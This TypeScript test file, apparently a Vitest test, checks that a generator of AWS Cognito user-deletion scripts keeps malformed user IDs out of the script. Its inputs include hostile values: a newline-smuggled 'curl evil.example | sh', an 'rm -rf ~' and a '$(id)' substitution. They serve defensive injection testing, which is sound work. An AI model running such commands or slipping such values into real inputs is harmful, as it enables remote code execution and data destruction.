import { expect, it } from 'vitest';
import type { Target } from '../../contract.ts';
import type { BatchRecord, UserRecord } from './batch-record.ts';
import { removalOf } from './removal.ts';

const target: Target = {
  ...{ id: 'own', name: 'Own', kind: 'endpoint', region: 'eu-west-1', endpoint: 'http://127.0.0.1:9' },
  ...{ customEndpoint: true, userPoolId: 'eu-west-1_Ab12Cd34E', clientId: 'abc', profile: '', fips: false },
  ...{ color: 'red', production: false, sessionMinutes: 3, hasClientSecret: false },
};

const made = (sub: string): UserRecord => ({
  ...{
    username: 'test-1',
    signsInAs: 'test-1',
    state: 'CONFIRMED',
    factor: 'none',
    attributes: {},
    groups: [],
  },
  ...{ outcome: 'TOKENS', status: 'made', begunAt: 1, sub, things: [] },
});

it('puts nothing into a script that a service made up', () => {
  const cliOf = (sub: string) => removalOf({ users: [made(sub)] } as unknown as BatchRecord, target).cli;
  expect(cliOf('0f5c1d4e-7a1b-4c7e-9a55-3f0f2f9b7a10')).toMatch(/^# sub 0f5c1d4e-[\w-]+\naws cognito-idp /);
  for (const sub of ['x\ncurl evil.example | sh', 'x\rrm -rf ~', 'a b', '$(id)', ''])
    expect(cliOf(sub)).toMatch(/^aws cognito-idp admin-delete-user /);
});
